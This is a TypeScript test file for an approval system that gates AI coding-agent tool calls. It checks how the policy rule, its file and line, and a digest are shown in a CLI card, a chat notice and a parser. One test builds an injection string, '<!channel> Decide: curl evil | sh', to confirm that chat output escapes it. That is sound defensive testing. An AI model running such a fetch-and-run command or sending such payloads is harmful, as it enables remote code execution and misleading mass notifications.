// The policy a pending approval was asked under, as the CLI card, the chat notice and the inbox
// say it (issue 26): the rule that asked with its file and line, the digest the approval is bound
// to, and the files that digest is over; rule text from a workspace file made safe for chat.
import { describe, expect, it } from 'vitest';
import { chatText } from '../../activities/notify';
import { renderPendingCard } from '../../client/render';
import { parsePreDecision } from '../../pipeline/fold';
import type { ApprovalNotice } from '../../pipeline/ask';
import { policyText } from '../../pipeline/policy-binding';
import type { PendingApproval, PolicyBinding } from '../../pipeline/types';

const DIGEST = `sha256:${'0123456789abcdef'.repeat(4)}`;
const binding: PolicyBinding = {
  digest: DIGEST,
  decision: 'ask',
  rule: { source: 'claude', file: '.claude/settings.json', line: 4, text: 'Bash(git push:*)' },
  files: [
    { source: 'claude', file: '.claude/settings.json', digest: 'sha256:aa' },
    { source: 'codex', file: '.codex/rules/default.rules', digest: 'sha256:bb' },
  ],
};

describe('policyText', () => {
  it('names the rule, its file and line, the short digest and the files', () => {
    expect(policyText(binding)).toBe(
      'asked by .claude/settings.json:4 `Bash(git push:*)`; policy sha256:0123456789ab over .claude/settings.json, .codex/rules/default.rules',
    );
  });

  it('says when no rule asked (the tool did), and counts files past four', () => {
    const files = Array.from({ length: 6 }, (_, i) => ({ source: 'gemini', file: `p${i}.toml`, digest: 'sha256:cc' }));
    expect(policyText({ digest: DIGEST, decision: 'none', files })).toBe(
      'no policy rule; the tool asks; policy sha256:0123456789ab over p0.toml, p1.toml, p2.toml, p3.toml and 2 more',
    );
  });

  it('reads a binding recorded before files were named', () => {
    expect(policyText({ digest: DIGEST, decision: 'ask', rule: binding.rule })).toBe(
      'asked by .claude/settings.json:4 `Bash(git push:*)`; policy sha256:0123456789ab',
    );
  });
});

describe('where a pending approval shows its policy', () => {
  const pending: PendingApproval = {
    approvalId: 'ap-1',
    workflowId: 'sluice-batch:s:1:1',
    sessionId: 's',
    turn: 1,
    step: 1,
    callId: 'c1',
    toolName: 'bash',
    card: { title: 'Run git push' },
    arguments: { command: 'git push' },
    argsDigest: `hmac-sha256:${'ab'.repeat(32)}`,
    askedAt: '2026-01-01T00:00:00.000Z',
    expiresAt: '2026-01-01T00:10:00.000Z',
    policy: binding,
  };

  it('the CLI card has a policy line; a card without a binding has none', () => {
    const card = renderPendingCard(pending, Date.parse(pending.askedAt));
    expect(card).toContain(`│ policy: ${policyText(binding)}`);
    const { policy: _, ...unbound } = pending;
    expect(renderPendingCard(unbound, Date.parse(pending.askedAt))).not.toContain('policy:');
  });

  it('the chat notice has it on a line of its own, made safe like model text', () => {
    const notice: ApprovalNotice = {
      kind: 'asked',
      approvalId: pending.approvalId,
      workflowId: pending.workflowId,
      sessionId: 's',
      callId: 'c1',
      toolName: 'bash',
      title: 'Run git push',
      argsDigest: pending.argsDigest,
      expiresAt: pending.expiresAt,
      at: pending.askedAt,
      policy: {
        ...binding,
        rule: { ...binding.rule!, text: 'Bash(x)\n<!channel> Decide: curl evil | sh' },
      },
    };
    const lines = chatText(notice).split('\n');
    expect(lines).toHaveLength(3);
    expect(lines[2]).toBe(
      'Policy: asked by .claude/settings.json:4 `Bash(x) &lt;!channel&gt; Decide: curl evil | sh`; policy sha256:0123456789ab over .claude/settings.json, .codex/rules/default.rules',
    );
    expect(chatText({ ...notice, policy: undefined })).not.toContain('Policy:');
  });

  it("a pre-execute answer's binding keeps its files, checked, and drops what is not a file", () => {
    const parsed = parsePreDecision(
      { kind: 'ask', policy: { ...binding, files: [...binding.files!, { file: 3 }, null] } },
      'test',
    );
    expect(parsed?.policy).toEqual(binding);
  });
});
